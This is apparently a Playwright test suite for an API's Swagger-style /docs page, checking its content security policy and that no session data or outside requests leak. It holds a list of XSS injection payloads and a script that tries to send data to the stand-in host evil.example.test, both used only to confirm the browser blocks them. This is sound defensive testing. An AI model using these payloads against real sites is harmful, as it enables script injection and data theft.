"""`/docs` in Chromium: it works under its policy, asks nobody else, and runs nothing that is not
its own."""

from __future__ import annotations

import json
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from playwright.sync_api import expect

if TYPE_CHECKING:
    from playwright.sync_api import Locator, Route

    from tests.browser.chromium import Tab
    from tests.browser.sites import Site
    from tests.stack import Stack

PICTURES = Path(__file__).resolve().parents[2] / "build" / "browser"
"""For people: CI keeps them."""
RAN = "document.documentElement.dataset.ran"
"""What an injected script would set."""


def operation(tab: Tab, method: str, path: str) -> Locator:
    """Return an operation's part of the page, opened and ready to be tried."""
    block = tab.page.locator(f".opblock-{method}").filter(
        has=tab.page.locator(f'.opblock-summary-path[data-path="{path}"]')
    )
    block.locator(".opblock-summary-control").click()
    block.get_by_role("button", name="Try it out").click()
    return block


def execute(block: Locator) -> tuple[str, Any]:
    """Call the API as the page does; return the status and the JSON that the page shows."""
    block.get_by_role("button", name="Execute").click()
    answer = block.locator(".live-responses-table .response")
    status = answer.locator(".response-col_status").inner_text()
    return status.strip(), json.loads(answer.locator(".highlight-code pre").first.inner_text())


def authorize(tab: Tab, token: str) -> None:
    """Give the page a token, as a person does."""
    tab.page.locator(".auth-wrapper .authorize").first.click()
    dialog = tab.page.locator(".dialog-ux")
    dialog.get_by_role("textbox").fill(token)
    dialog.get_by_role("button", name="Apply credentials").click()
    dialog.get_by_role("button", name="Close", exact=True).click()


def take_picture(tab: Tab, name: str) -> None:
    """Keep a picture of the whole page."""
    PICTURES.mkdir(parents=True, exist_ok=True)
    picture = tab.page.screenshot(path=PICTURES / name, full_page=True)
    assert picture.startswith(b"\x89PNG")


def assert_clean(tab: Tab, stack: Stack) -> None:
    """Assert that nothing was forbidden, nobody else was asked, and nothing was kept."""
    assert tab.violations() == []
    assert tab.complaints == []
    outside = [url for url in tab.asked if not url.startswith((f"{stack.https_url}/", "data:"))]
    assert outside == []
    assert tab.page.evaluate("[localStorage.length, sessionStorage.length]") == [0, 0]
    assert tab.page.context.cookies() == []


def test_twin_the_page_shows_every_operation_of_the_api(tab: Tab, stack: Stack) -> None:
    tab.page.goto("/docs")
    document = stack.client().get("/openapi.json").json()
    count = sum(map(len, document["paths"].values()))
    expect(tab.page.locator(".opblock")).to_have_count(count)
    expect(tab.page.locator(".info .title")).to_contain_text(document["info"]["title"])
    expect(tab.page.locator("body")).to_have_css("margin", "0px")  # our style sheet, too
    take_picture(tab, "docs.png")
    assert_clean(tab, stack)


def test_twin_an_operation_is_tried_out_and_its_answer_shown(tab: Tab, stack: Stack) -> None:
    tab.page.goto("/docs")
    assert execute(operation(tab, "get", "/healthz")) == ("200", {"status": "ok"})
    assert f"{stack.https_url}/healthz" in tab.asked
    take_picture(tab, "docs-tried-out.png")
    assert_clean(tab, stack)


def test_twin_what_the_page_fills_in_works_at_the_first_click(tab: Tab, stack: Stack) -> None:
    tab.page.goto("/docs")
    status, made = execute(operation(tab, "post", "/api/v1/accounts/signup"))
    assert status == "201"
    status, answer = execute(operation(tab, "post", "/api/v1/accounts/login"))
    assert status == "200"
    authorize(tab, answer["access_token"])
    status, account = execute(operation(tab, "get", "/api/v1/accounts/me"))
    assert (status, account["email"]) == ("200", made["email"])
    assert_clean(tab, stack)


def test_the_page_is_called_as_the_api_is_and_says_how_to_authorize(tab: Tab, stack: Stack) -> None:
    tab.page.goto("/docs")
    expect(tab.page).to_have_title(stack.client().get("/openapi.json").json()["info"]["title"])
    expect(tab.page.locator(".info .description")).to_contain_text("To authorize: log in with")
    assert_clean(tab, stack)


def test_twin_with_a_token_the_page_does_what_its_owner_may(tab: Tab, stack: Stack) -> None:
    account = stack.signup()
    tab.page.goto("/docs")
    authorize(tab, account.access_token)
    status, answer = execute(operation(tab, "get", "/api/v1/accounts/me"))
    assert (status, answer["email"]) == ("200", account.email)
    change = operation(tab, "patch", "/api/v1/accounts/me")
    change.locator("textarea").fill('{"display_name": "Ada"}')
    status, answer = execute(change)
    assert (status, answer["display_name"]) == ("200", "Ada")
    assert_clean(tab, stack)


def test_looking_again_asks_for_no_script_and_no_style_sheet(tab: Tab, stack: Stack) -> None:
    """They would count against the visitor's limit, each time."""
    tab.page.goto("/docs")
    expect(tab.page.locator(".opblock").first).to_be_visible()
    stack.mark()
    tab.page.reload()
    expect(tab.page.locator(".opblock").first).to_be_visible()
    last: dict[str, Any] = {"url.path": "/openapi.json"}
    stack.log_lines(source="access", **last)
    paths = {line["url.path"] for line in stack.log_lines(source="access")}
    assert "/docs" in paths
    assert [path for path in paths if path.endswith((".js", ".css"))] == []


def test_attack_the_token_is_not_there_for_the_next_one_at_this_computer(
    tab: Tab, stack: Stack
) -> None:
    tab.page.goto("/docs")
    authorize(tab, stack.signup().access_token)
    tab.page.reload()
    block = operation(tab, "get", "/api/v1/accounts/me")
    block.get_by_role("button", name="Execute").click()
    status = block.locator(".live-responses-table .response .response-col_status")
    expect(status).to_contain_text("401")


def serve_page(tab: Tab, stack: Stack, path: str, markup: str = "") -> None:
    """Let this address give the page as the service sends it, headers and all, and this markup.

    It stands for a hole in the page: somebody's text got into it as HTML.
    """
    sent = stack.client().get("/docs")
    assert sent.status_code == 200
    body = sent.text.replace("</body>", f"{markup}</body>")
    assert f"{markup}</body>" in body

    def give(route: Route) -> None:
        route.fulfill(status=200, headers=dict(sent.headers), body=body)

    tab.page.route(f"{stack.https_url}{path}", give)
    tab.page.goto(path)


INJECTED = {
    f"<script>{RAN} = 'inline'</script>": "script-src-elem inline",
    f"<img src=data:, onerror=\"{RAN} = 'handler'\">": "script-src-attr inline",
    f"<iframe src=\"javascript:parent.{RAN}='link'\"></iframe>": "script-src-elem inline",
    "<script src=https://evil.example.test/script.js></script>": "script-src-elem https://evil.",
    f"<script src=\"data:text/javascript,{RAN}='data'\"></script>": "script-src-elem data",
    "<style>body { margin: 7px }</style>": "style-src-elem inline",
    "<p style='margin: 7px'>": "style-src-attr inline",
    "<link rel=stylesheet href=https://evil.example.test/a.css>": "style-src-elem https://evil.",
    "<img src=https://evil.example.test/pixel.svg>": "img-src https://evil.",
    "<iframe src=https://evil.example.test/></iframe>": "frame-src https://evil.",
    "<iframe src=/healthz></iframe>": "frame-src https://localhost",
    "<object data=https://evil.example.test/></object>": "object-src https://evil.",
    "<base href=https://evil.example.test/>": "base-uri https://evil.",
}
"""Markup → what the browser is to say of it."""


def test_attack_nothing_that_gets_into_the_page_does_anything(
    tab: Tab, stack: Stack, foreign: Site
) -> None:
    serve_page(tab, stack, "/docs", "".join(INJECTED))
    expect(tab.page.locator(".opblock").first).to_be_visible()
    found = tab.violations()
    for said in INJECTED.values():
        assert any(one.startswith(said) for one in found), said
    assert tab.page.evaluate(RAN) is None
    expect(tab.page.locator("body")).to_have_css("margin", "0px")
    assert foreign.asked == []


def test_twin_the_same_page_without_it_runs_its_own_scripts(tab: Tab, stack: Stack) -> None:
    own = "<script defer src=/docs/swagger-ui-bundle.js></script><p class=own></p>"
    serve_page(tab, stack, "/docs", own)
    expect(tab.page.locator(".opblock").first).to_be_visible()
    assert_clean(tab, stack)


def test_attack_a_script_that_ran_could_send_nothing_away(
    tab: Tab, stack: Stack, foreign: Site
) -> None:
    serve_page(tab, stack, "/docs", "<form id=f action=https://evil.example.test/></form>")
    sent = tab.page.evaluate(
        """async () => {
          navigator.sendBeacon("https://evil.example.test/", "x");
          document.getElementById("f").submit();
          await fetch("https://evil.example.test/").catch(() => 0);
          await new Promise((resolve) => {
            new WebSocket("wss://evil.example.test/").onerror = resolve;
          });
        }"""
    )
    assert sent is None
    tab.wait_until(lambda: len(tab.violations()) == 4, "four times no")
    assert sorted(found.split("://")[0] for found in tab.violations()) == [
        *("connect-src https", "connect-src https", "connect-src wss", "form-action https"),
    ]
    assert foreign.asked == []


@pytest.mark.parametrize("name", ["url", "configUrl"])
def test_attack_the_address_does_not_choose_what_the_page_loads(
    tab: Tab, stack: Stack, foreign: Site, name: str
) -> None:
    query = f"/docs?{name}=https://evil.example.test/openapi.json"
    refused = tab.page.goto(query)
    assert refused is not None
    assert refused.status == 422
    # Were the address accepted, the page would still not look at it.
    serve_page(tab, stack, query)
    expect(tab.page.locator('.opblock-summary-path[data-path="/healthz"]')).to_be_visible()
    assert_clean_but_for_the_refusal(tab, stack)
    assert foreign.asked == []


def assert_clean_but_for_the_refusal(tab: Tab, stack: Stack) -> None:
    """Assert what `assert_clean` does, where the console tells of one answer with 422."""
    told = [text for text in tab.complaints if "422" not in text]
    assert len(tab.complaints) - len(told) == 1
    tab.complaints[:] = told
    assert_clean(tab, stack)
